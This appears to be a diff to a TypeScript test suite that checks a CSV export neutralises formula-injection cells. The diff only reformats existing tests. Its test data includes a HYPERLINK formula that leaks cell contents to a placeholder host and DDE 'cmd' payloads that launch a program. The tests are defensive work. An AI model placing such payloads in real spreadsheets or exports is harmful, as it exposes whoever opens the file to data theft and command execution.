@@ -8,8 +8,8 @@ describe('CSV cells that a spreadsheet would run as formulas', () => {
     ['=HYPERLINK("http://x/?"&A1,"klick")'],
     ["=cmd|' /C calc'!A0"],
     ['+46 SUM(A1:A9)'],
-    ['-2+3+cmd|\' /C calc\'!A0'],
-    ['@SUM(1+1)*cmd|\' /C calc\'!A0'],
+    ["-2+3+cmd|' /C calc'!A0"],
+    ["@SUM(1+1)*cmd|' /C calc'!A0"],
     ['\t=1+1'],
     ['\r=1+1'],
     ['\u0000=1+1'],
@@ -36,9 +36,13 @@ describe('CSV cells that a spreadsheet would run as formulas', () => {
 describe('every CSV the API writes', () => {
   it('is written through toCsv: no other file of the API uses csv-stringify', () => {
     const files = (dir: string): string[] =>
-      readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? files(join(dir, e.name)) : e.name.endsWith('.ts') && !e.name.endsWith('.spec.ts') ? [join(dir, e.name)] : []));
+      readdirSync(dir, { withFileTypes: true }).flatMap((e) =>
+        e.isDirectory() ? files(join(dir, e.name)) : e.name.endsWith('.ts') && !e.name.endsWith('.spec.ts') ? [join(dir, e.name)] : [],
+      );
     const src = join(__dirname, '..');
-    const writers = files(src).filter((f) => /csv-stringify/.test(readFileSync(f, 'utf8'))).map((f) => f.slice(src.length + 1));
+    const writers = files(src)
+      .filter((f) => /csv-stringify/.test(readFileSync(f, 'utf8')))
+      .map((f) => f.slice(src.length + 1));
     expect(writers).toEqual(['common/csv.ts']);
   });
 });
